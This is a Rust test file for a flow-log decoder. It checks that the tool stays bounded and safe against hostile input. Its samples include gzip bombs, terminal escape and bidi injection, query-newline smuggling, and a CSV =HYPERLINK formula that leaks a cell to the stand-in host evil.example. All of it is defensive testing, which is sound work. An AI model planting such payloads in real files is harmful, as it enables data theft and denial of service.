//! Hostile input cannot hurt (issue 9): every bound, the count invariant over every
//! shape, formula-safe CSV, escaped terminal output and query work that follows the
//! rows rather than the attacker's text. Bounds are asserted on sizes and counts, never
//! on wall time.

mod common;

use common::{decode, decode_chunked, flowlens, generate, gzip as gz};
use flowlens::output::{write_csv, write_csv_with};
use flowlens::query::{self, Filter};
use flowlens::MAX_LINE;
use flowlens::{DecodeOptions, Table};
use std::process::Command;

const R: &str = "2 123456789010 eni-1235b8ca123456789 172.31.16.139 172.31.16.21 20641 22 6 20 4249 1418530010 1418530070 ACCEPT OK";

fn gunzip(b: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut d = flate2::read::MultiGzDecoder::new(b);
    std::io::Read::read_to_end(&mut d, &mut out).unwrap();
    out
}

/// Physical lines of a (decompressed) line-shaped input.
fn physical_lines(b: &[u8]) -> u64 {
    let nl = b.iter().filter(|&&c| c == b'\n').count() as u64;
    nl + u64::from(b.last().is_some_and(|&c| c != b'\n'))
}

fn accounted(t: &Table) -> u64 {
    let c = t.counts();
    c.records + c.errors + c.skipped()
}

/// records + errors + skipped = lines read, whatever the chunking.
fn assert_lines_add_up(name: &str, input: &[u8]) {
    let plain = if input.starts_with(&[0x1f, 0x8b]) {
        gunzip(input)
    } else {
        input.to_vec()
    };
    let want = physical_lines(&plain);
    for chunk in [1 << 16, 4093, 7] {
        if chunk == 7 && input.len() > 300_000 {
            continue;
        }
        let t = decode_chunked(input, chunk, DecodeOptions::default());
        assert_eq!(
            accounted(&t),
            want,
            "{name} (chunks of {chunk}): {:?}",
            t.counts()
        );
    }
}

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!(
        "{}/tests/fixtures/{name}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap()
}

/// Builds a CloudWatch console CSV from record lines.
fn as_csv(lines: &str) -> String {
    let mut s = String::from("timestamp,message\n");
    for (i, l) in lines.lines().enumerate() {
        s.push_str(&format!("{},\"{}\"\n", 1_764_115_200_000u64 + i as u64, l));
    }
    s
}

/// Odd and hostile line-shaped inputs, each with what it is.
fn hostile_inputs() -> Vec<(&'static str, Vec<u8>)> {
    let long = "x".repeat(MAX_LINE + 3);
    let mut v: Vec<(&'static str, Vec<u8>)> = vec![
        ("empty", Vec::new()),
        ("blank lines", b"\n\n  \n\t\n".to_vec()),
        ("no final newline", format!("{R}\n{R}").into_bytes()),
        (
            "crlf and bom",
            format!("\u{feff}{R}\r\n{R}\r\n").into_bytes(),
        ),
        ("overlong line", format!("{R}\n{long}\n{R}\n").into_bytes()),
        ("overlong last line", format!("{R}\n{long}").into_bytes()),
        (
            "control characters",
            format!("{R}\n2 1 eni-\u{1b}]0;x\u{7} a b\n").into_bytes(),
        ),
        (
            "duplicate header",
            format!("version version srcaddr dstaddr\n2 3 10.0.0.1 10.0.0.2\n{R}\n").into_bytes(),
        ),
        (
            "implausible times",
            format!("{}\n{R}\n", R.replace("1418530010", "99999999999")).into_bytes(),
        ),
        (
            "csv with open quote",
            format!("timestamp,message\n1,\"{R}\n2,{R}\n3,\"{R}\"\n").into_bytes(),
        ),
        (
            "csv overlong row",
            format!("timestamp,message\n1,\"{long}\"\n2,{R}\n").into_bytes(),
        ),
        (
            "message lines",
            format!("$ x\n  \"message\": \"{R}\",\n  \"message\": \"{long}\"\n").into_bytes(),
        ),
    ];
    let mut bomb = format!("{R}\n").into_bytes();
    bomb.extend(std::iter::repeat_n(0u8, 8 << 20));
    bomb.extend(format!("\n{R}\n").as_bytes());
    v.push(("gzip NUL bomb", gz(&bomb)));
    v
}

#[test]
fn counts_add_up_for_every_fixture_and_hostile_input() {
    for f in ["custom.log", "default-bad.log", "v5-s3.log.gz"] {
        assert_lines_add_up(f, &fixture(f));
    }
    for (name, input) in hostile_inputs() {
        assert_lines_add_up(name, &input);
    }
}

#[test]
fn counts_add_up_for_generated_workloads_in_every_line_shape() {
    for (container, fields) in [
        ("raw", "default"),
        ("s3", "v5"),
        ("cwl-messages", "default"),
    ] {
        let (bytes, truth) = generate(&[
            "-n",
            "3000",
            "--container",
            container,
            "--fields",
            fields,
            "--bad-rate",
            "0.02",
        ]);
        assert_lines_add_up(container, &bytes);
        let t = decode(&bytes);
        assert_eq!(t.counts().records, truth["records"].as_u64().unwrap());
    }
    // CSV rows, with an unterminated quote: it costs exactly its own line.
    let (bytes, truth) = generate(&["-n", "2000"]);
    let mut csv = as_csv(std::str::from_utf8(&bytes).unwrap());
    let at = csv.find("\n1764115200500,").unwrap();
    csv.insert_str(at + 1, "1,\"unterminated\n");
    assert_lines_add_up("csv", csv.as_bytes());
    let t = decode(csv.as_bytes());
    assert_eq!(t.counts().records, truth["records"].as_u64().unwrap());
    let quote = t
        .errors()
        .iter()
        .find(|e| e.reason.starts_with("unterminated quote"))
        .expect("the quote is named");
    assert_eq!(quote.line, 502, "the quote's own line");
}

#[test]
fn counts_add_up_for_json_events() {
    for container in ["cwl-json", "cwl-filter-json"] {
        let (bytes, truth) =
            generate(&["-n", "1500", "--container", container, "--bad-rate", "0.03"]);
        let t = decode(&bytes);
        let events = truth["records"].as_u64().unwrap() + truth["bad-records"].as_u64().unwrap();
        assert_eq!(accounted(&t), events, "{container}: {:?}", t.counts());
    }
}

#[test]
fn a_gzip_bomb_beside_a_good_file_loses_nothing_of_it() {
    let mut d = flowlens::Decoder::new(DecodeOptions::default());
    d.begin_file("good.log");
    d.push(format!("{R}\n{R}\n").as_bytes());
    d.begin_file("bomb.log.gz");
    let mut bomb = Vec::new();
    bomb.extend(std::iter::repeat_n(0u8, 32 << 20));
    for c in gz(&bomb).chunks(1 << 16) {
        d.push(c);
        assert!(d.heap_bytes() < 4 << 20, "{}", d.heap_bytes());
    }
    let t = d.finish();
    assert_eq!(t.counts().records, 2);
    assert_eq!(t.errors().len(), 1);
    // A file that is nothing but NUL bytes is binary input: one message for the file
    // (a NUL run after good lines is one over-long bad line: tests in bounds_tests.rs).
    assert_eq!(
        t.errors()[0].reason,
        "this is binary data (NUL or control bytes), not flow log text: nothing was decoded from it"
    );
    assert_eq!(t.files()[1].errors, 1);
}

#[test]
fn decoder_heap_bytes_count_a_partial_line_and_stay_bounded() {
    let mut d = flowlens::Decoder::new(DecodeOptions::default());
    d.begin_file("long");
    d.push(format!("{R}\n").repeat(2000).as_bytes()); // past the sniff window
    let before = d.heap_bytes();
    let chunk = vec![b'x'; 100_000];
    for _ in 0..9 {
        d.push(&chunk);
    }
    assert!(
        d.heap_bytes() >= before + 900_000,
        "a partial line is counted"
    );
    for _ in 0..200 {
        d.push(&chunk);
    }
    assert!(
        d.heap_bytes() < before + (2 << 20),
        "and bounded once over the limit"
    );
    let t = d.finish();
    assert_eq!(t.counts().records, 2000);
    assert_eq!(t.counts().errors, 1);
}

#[test]
fn duplicate_field_names_are_rejected_naming_both_positions() {
    let t = decode(b"version version srcaddr dstaddr\n2 3 10.0.0.1 10.0.0.2\n");
    assert_eq!(t.counts().records, 0);
    let e: Vec<_> = t
        .errors()
        .iter()
        .map(|e| (e.line, e.reason.as_str()))
        .collect();
    assert_eq!(
        e,
        vec![
            (
                1,
                "header line: field 'version' is named twice, at positions 1 and 2; the lines after it are not decoded"
            ),
            (2, "not decoded: the header at line 1 names a field twice"),
        ]
    );
    // A later good header binds again.
    let t = decode(
        format!("version version\n2 2\nversion account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\n{R}\n")
            .as_bytes(),
    );
    assert_eq!((t.counts().records, t.counts().errors), (1, 2));
    assert_eq!(
        flowlens::fields::parse_format("version srcaddr srcaddr").unwrap_err(),
        "format: field 'srcaddr' is named twice, at positions 2 and 3"
    );
}

#[test]
fn implausible_times_are_bad_lines_and_histograms_stay_bounded() {
    let far = R.replace("1418530010 1418530070", "4102444000 4102444000");
    let near = R.replace("1418530010 1418530070", "1000000000 1000000060");
    let bad = R.replace("1418530010", "99999999999");
    let bad17 = R.replace("1418530070", "12345678901234567");
    let t = decode(format!("{far}\n{near}\n{bad}\n{bad17}\n").as_bytes());
    assert_eq!(t.counts().records, 2);
    let reasons: Vec<_> = t
        .errors()
        .iter()
        .map(|e| (e.line, e.reason.clone()))
        .collect();
    assert_eq!(reasons[0].0, 3);
    assert!(
        reasons[0].1.contains("99999999999 is not a plausible time"),
        "{reasons:?}"
    );
    assert!(
        reasons[1]
            .1
            .contains("12345678901234567 is not a plausible time"),
        "{reasons:?}"
    );
    let rows: Vec<u32> = (0..t.len() as u32).collect();
    // A century between two records: the target holds, and an explicit 1-second size is
    // widened to the bucket bound.
    let h = query::histogram(&t, &rows, None, 60);
    assert!(h.records.len() <= 60, "{}", h.records.len());
    assert_eq!(h.records.iter().sum::<u64>(), 2);
    let h = query::histogram(&t, &rows, Some(1), 60);
    assert!(
        h.records.len() as u64 <= query::MAX_BUCKETS,
        "{}",
        h.records.len()
    );
    // An absurd target is capped too.
    let h = query::histogram(&t, &rows, None, usize::MAX);
    assert!(h.records.len() as u64 <= query::MAX_BUCKETS);
}

#[test]
fn deep_and_long_filters_answer_calmly() {
    let t = decode(format!("{R}\n").as_bytes());
    for n in [3_117usize, 100_000, 100_001] {
        let f = Filter::parse(&format!("{}dstport = 22", "!".repeat(n))).unwrap();
        assert_eq!(f.select(&t).len(), if n % 2 == 0 { 1 } else { 0 }, "{n}");
        let f = Filter::parse(&format!("{}dstport = 22", "not ".repeat(n))).unwrap();
        assert_eq!(f.select(&t).len(), if n % 2 == 0 { 1 } else { 0 }, "{n}");
    }
    let deep = format!("{}dstport = 22{}", "(".repeat(100_000), ")".repeat(100_000));
    let e = Filter::parse(&deep).unwrap_err();
    assert!(e.to_string().contains("nested too deeply"), "{e}");
    let mixed = format!("{}dstport = 22{}", "!(".repeat(150), ")".repeat(150));
    assert_eq!(Filter::parse(&mixed).unwrap().select(&t).len(), 1);
    // A megabyte of unknown name: an error, and no suggestion attempted.
    let name = "q".repeat(1 << 20);
    let e = Filter::parse(&format!("{name} = 1")).unwrap_err();
    assert!(e.to_string().starts_with("unknown field 'qqq"));
    assert!(!e.to_string().contains("did you mean"));
    assert!(Filter::parse("dstprt = 1")
        .unwrap_err()
        .to_string()
        .contains("did you mean 'dstport'"));
}

#[test]
fn repeated_sort_keys_collapse_to_one() {
    let keys = query::parse_sort(&vec!["bytes"; 1000].join(",")).unwrap();
    assert_eq!(keys.len(), 1);
    let keys = query::parse_sort("bytes:desc,start,bytes,start:desc,dstport").unwrap();
    let names: Vec<_> = keys.iter().map(|k| (k.field.name(), k.desc)).collect();
    assert_eq!(
        names,
        vec![("bytes", true), ("start", false), ("dstport", false)]
    );
}

#[test]
fn long_in_lists_agree_with_the_row_at_a_time_evaluator() {
    let (bytes, _) = generate(&["-n", "4000", "--fields", "v5", "--container", "s3"]);
    let t = decode(&bytes);
    let enis: Vec<String> = (0..t.len())
        .step_by(3)
        .map(|r| flowlens::output::display_value(&t, r, flowlens::Field::InterfaceId))
        .collect();
    let ports: Vec<String> = (0..3000).map(|p| (p * 7).to_string()).collect();
    let nets: Vec<String> = (0..200)
        .map(|i| format!("10.{}.0.0/{}", i, 16 + i % 9))
        .collect();
    for text in [
        format!("interface-id in ({})", enis.join(", ")),
        format!("not interface-id in ({})", enis.join(", ")),
        format!("dstport in ({})", ports.join(", ")),
        format!("bytes in ({})", ports.join(", ")),
        format!("srcaddr in ({})", nets.join(", ")),
        format!("duration in ({})", ports.join(", ")),
    ] {
        let f = Filter::parse(&text).unwrap();
        let fast = f.select(&t);
        let slow: Vec<u32> = (0..t.len())
            .filter(|&r| f.matches(&t, r))
            .map(|r| r as u32)
            .collect();
        assert_eq!(fast, slow, "{}", &text[..40]);
    }
}

#[test]
fn absent_fields_are_named() {
    let t = decode(format!("{R}\n").as_bytes());
    let f = Filter::parse("tgw-id = tgw-1 or dstport = 22 or vpc-id exists").unwrap();
    let names: Vec<_> = f.absent_fields(&t).iter().map(|f| f.name()).collect();
    assert_eq!(names, vec!["tgw-id", "vpc-id"]);
    assert!(Filter::parse("dstport = 22")
        .unwrap()
        .absent_fields(&t)
        .is_empty());
}

#[test]
fn csv_export_neutralises_formulas_in_text_only() {
    let json = format!(
        "{{\"events\":[{{\"timestamp\":1764115200000,\"logStreamName\":\"=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A2,\\\"Click\\\")\",\"message\":\"{}\"}}]}}",
        R.replace("eni-1235b8ca123456789", "-1").replace("123456789010", "@SUM(1)")
    );
    let t = decode(json.as_bytes());
    assert_eq!(t.counts().records, 1, "{:?}", t.errors());
    let mut safe = String::new();
    write_csv(&mut safe, &t, 0..1);
    let row = safe.lines().nth(1).unwrap();
    assert!(row.contains(",'@SUM(1),'-1,172.31.16.139,"), "{row}");
    assert!(
        row.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Click\"\")\""),
        "{row}"
    );
    assert!(row.starts_with("2,"), "integers stay numbers: {row}");
    let mut exact = String::new();
    write_csv_with(&mut exact, &t, 0..1, false);
    assert!(exact.contains(",@SUM(1),-1,"), "{exact}");
    // NDJSON stays exact.
    let mut nd = String::new();
    flowlens::output::write_ndjson(&mut nd, &t, 0..1);
    assert!(nd.contains("\"interface-id\":\"-1\""), "{nd}");
}

#[test]
fn stream_names_and_text_values_are_bounded_and_clean() {
    let long_stream = "s".repeat(513);
    let json = format!(
        "{{\"events\":[{{\"timestamp\":1764115200000,\"logStreamName\":\"{long_stream}\",\"message\":\"{R}\"}},\
         {{\"timestamp\":1764115200000,\"logStreamName\":\"a\\u001b[2Jb\",\"message\":\"{R}\"}},\
         {{\"timestamp\":99999999999999999,\"message\":\"{R}\"}},\
         {{\"timestamp\":1764115200000,\"logStreamName\":\"ok\",\"message\":\"{R}\"}}]}}"
    );
    let t = decode(json.as_bytes());
    assert_eq!(t.counts().records, 1);
    let reasons: Vec<_> = t.errors().iter().map(|e| e.reason.as_str()).collect();
    assert_eq!(reasons[0], "@logStream is 513 bytes long (at most 512)");
    assert!(
        reasons[1].starts_with("@logStream: expected printable UTF-8 text"),
        "{}",
        reasons[1]
    );
    assert!(reasons[2].starts_with("@timestamp 99999999999999999 is not a plausible time"));
    let big = R.replace("eni-1235b8ca123456789", &"e".repeat(flowlens::MAX_TEXT + 1));
    let t = decode(format!("{big}\n{R}\n").as_bytes());
    assert_eq!(t.counts().records, 1);
    assert_eq!(
        t.errors()[0].reason,
        "field 3 'interface-id': value is 8193 bytes long (at most 8192)"
    );
}

#[test]
fn invisible_characters_are_shown_escaped() {
    let line = R.replace("eni-1235b8ca123456789", "eni-\u{202e}lave");
    let t = decode(format!("{line}\n").as_bytes());
    assert_eq!(t.counts().records, 1, "{:?}", t.errors());
    assert_eq!(
        flowlens::output::display_value(&t, 0, flowlens::Field::InterfaceId),
        "eni-\\u{202e}lave"
    );
    // The stored value (and so NDJSON and the filter) is exact.
    let f = Filter::parse("interface-id = \"eni-\u{202e}lave\"").unwrap();
    assert_eq!(f.select(&t).len(), 1);
}

#[test]
fn insights_translation_escapes_line_breaks() {
    let f = Filter::parse("interface-id = \"a\nb | stats count(*)\"").unwrap();
    let q = query::to_insights(&f, &[], &[]).unwrap();
    assert!(!q.contains("a\nb"), "{q}");
    assert!(q.contains("a\\nb"), "{q}");
}

// ---------------------------------------------------------------- CLI

#[test]
fn cli_survives_100000_nots_and_escapes_terminal_controls() {
    let expr = format!("{}dstport = 22", "!".repeat(100_000));
    let out = flowlens(
        &["--filter", &expr, "-o", "table"],
        format!("{R}\n").as_bytes(),
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let bad = format!(
        "{R}\n{}\n",
        R.replace("eni-1235b8ca123456789", "eni-\u{1b}]0;pwned\u{7}")
    );
    let out = flowlens(&[], bad.as_bytes());
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}'), "{err:?}");
    assert!(err.contains("\\u{1b}]0;pwned\\u{7}"), "{err}");
    let bidi = R.replace("eni-1235b8ca123456789", "eni-\u{202e}x");
    let out = flowlens(&["-o", "table"], format!("{bidi}\n").as_bytes());
    let table = String::from_utf8(out.stdout).unwrap();
    assert!(
        !table.contains('\u{202e}') && table.contains("eni-\\u{202e}x"),
        "{table}"
    );
}

#[test]
fn cli_histogram_is_bounded_and_csv_safe_is_default() {
    let a = R.replace("1418530010 1418530070", "1000000000 1000000060");
    let b = R.replace("1418530010 1418530070", "4102444000 4102444000");
    let out = flowlens(&["--histogram", "1s"], format!("{a}\n{b}\n").as_bytes());
    assert!(out.status.success());
    let lines = String::from_utf8(out.stdout).unwrap().lines().count();
    assert!(lines as u64 <= query::MAX_BUCKETS + 2, "{lines}");
    let out = flowlens(&["--histogram"], format!("{a}\n{b}\n").as_bytes());
    assert!(String::from_utf8(out.stdout).unwrap().lines().count() <= 62);

    let line = R.replace("eni-1235b8ca123456789", "=1+1");
    let out = flowlens(&["-o", "csv"], format!("{line}\n").as_bytes());
    assert!(String::from_utf8(out.stdout).unwrap().contains(",'=1+1,"));
    let out = flowlens(
        &["-o", "csv", "--csv-safe=false"],
        format!("{line}\n").as_bytes(),
    );
    assert!(String::from_utf8(out.stdout).unwrap().contains(",=1+1,"));
    let out = flowlens(&["--filter", "tgw-id = tgw-1"], format!("{R}\n").as_bytes());
    assert!(String::from_utf8(out.stderr)
        .unwrap()
        .contains("the input has no field tgw-id"));
}

/// Peak resident memory of the CLI on a gzip bomb (96 MiB of NUL bytes in one "line",
/// 96 KiB compressed) stays near the 1 MiB line bound, measured with `/usr/bin/time -v`
/// (before the bound the CLI held the whole line: 2.1 GB for a 1 GB bomb).
#[test]
fn cli_memory_on_a_gzip_bomb_is_bounded() {
    if !std::path::Path::new("/usr/bin/time").exists() {
        eprintln!("skipped: no /usr/bin/time");
        return;
    }
    // Multi-member gzip: one compressed MiB of zeros, repeated.
    let member = gz(&vec![0u8; 1 << 20]);
    let bomb = member.repeat(96);
    let path = std::env::temp_dir().join(format!("flowlens-bomb-{}.gz", std::process::id()));
    std::fs::write(&path, &bomb).unwrap();
    let out = Command::new("/usr/bin/time")
        .arg("-v")
        .arg(env!("CARGO_BIN_EXE_flowlens"))
        .args(["-o", "stats"])
        .arg(&path)
        .output()
        .unwrap();
    let _ = std::fs::remove_file(&path);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("this is binary data"), "{err}");
    let kb: u64 = err
        .lines()
        .find_map(|l| {
            l.trim()
                .strip_prefix("Maximum resident set size (kbytes): ")
        })
        .and_then(|v| v.trim().parse().ok())
        .expect("peak RSS reported");
    assert!(kb < 40 * 1024, "peak RSS {kb} KiB");
}
